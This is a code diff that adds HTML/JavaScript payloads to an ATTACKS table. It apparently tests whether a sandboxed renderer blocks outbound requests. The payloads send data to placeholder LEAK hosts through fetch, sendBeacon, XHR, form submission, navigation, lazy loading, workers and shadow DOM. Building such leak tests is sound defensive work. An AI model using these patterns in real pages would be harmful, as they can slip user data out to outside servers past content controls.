@@ -101,6 +101,28 @@ ATTACKS = {
     "ping": """<a id=a ping="LEAK/ping" href="#x">x</a><script>a.click()</script>""",
     "requests": """<script>new EventSource('LEAK/es');const x=new XMLHttpRequest();x.open('POST','LEAK/x');
         x.send('y');fetch(new Request('LEAK/rq')).catch(()=>{});fetch('//'+'LEAKHOST/pr').catch(()=>{})</script>""",
+    "bodies": """<form id=f action="/x" method=post><input name=a value=b></form><script>
+        const b=JSON.stringify({query:'{x}'}),h={'Content-Type':'application/json'};
+        for(const m of ['POST','PUT','PATCH','DELETE'])fetch('LEAK/'+m,{method:m,headers:h,body:b}).catch(()=>{});
+        fetch(new Request('LEAK/rp',{method:'POST',body:b,mode:'same-origin'})).catch(()=>{});
+        fetch(new Request('LEAK/nc',{method:'POST',body:b,mode:'no-cors',keepalive:true})).catch(()=>{});
+        navigator.sendBeacon('LEAK/sb',new Blob([b],h));const d=new FormData();d.append('a','b');
+        const x=new XMLHttpRequest();x.open('PUT','LEAK/xp');x.send(d);f.action='LEAK/fa';f.requestSubmit()</script>""",
+    "routes": """<base href="/"><script>history.pushState({},'','/deep/route');
+        try{history.pushState({},'','LEAK/pushed')}catch(e){};fetch('../x').catch(()=>{});
+        fetch('/\\LEAKHOST/y',{mode:'no-cors'}).catch(()=>{});const {location:at}=window;at.href='LEAK/route';
+        setTimeout(()=>{history.back();at.assign('LEAK/assigned')},50)</script>""",
+    "lazy": """<img loading=lazy src="LEAK/lazy"><iframe loading=lazy src="LEAK/lf"></iframe><div id=d>x</div><script>
+        new IntersectionObserver(()=>{const i=new Image();i.loading='lazy';i.srcset='LEAK/o 1x';d.append(i)}).observe(d)</script>""",
+    "module-worker": """<script>const t="fetch('LEAK/mw',{method:'POST',body:'x',mode:'no-cors'}).catch(()=>{});"+
+        "new Request('LEAK/r');try{new EventSource('LEAK/we')}catch(e){};import('LEAK/wm.js').catch(()=>{});"+
+        "try{new Worker('LEAK/nested.js')}catch(e){}";
+        const u=URL.createObjectURL(new Blob([t],{type:'text/javascript'}));
+        new Worker(u,{type:'module'});try{new SharedWorker(u)}catch(e){}</script>""",
+    "shadow": """<div id=h></div><script>const r=h.attachShadow({mode:'closed'});r.innerHTML='<img src="LEAK/si">'+
+        '<style>:host{background:url(LEAK/sb)}</style><form action="LEAK/sf" method=post></form>';
+        const s=new CSSStyleSheet();s.replaceSync('p{background:url(LEAK/ss)}');r.adoptedStyleSheets=[s];
+        r.append(document.createElement('p'));r.querySelector('form').submit()</script>""",
     "inner-html": """<div id=d></div><script>d.innerHTML='<img src="LEAK/ih"><iframe src=LEAK/if></iframe>';
         d.insertAdjacentHTML('beforeend',"<img src='LEAK/ia' srcset='LEAK/ib 2x'>");
         document.write('<img src=LEAK/dw>')</script>""",
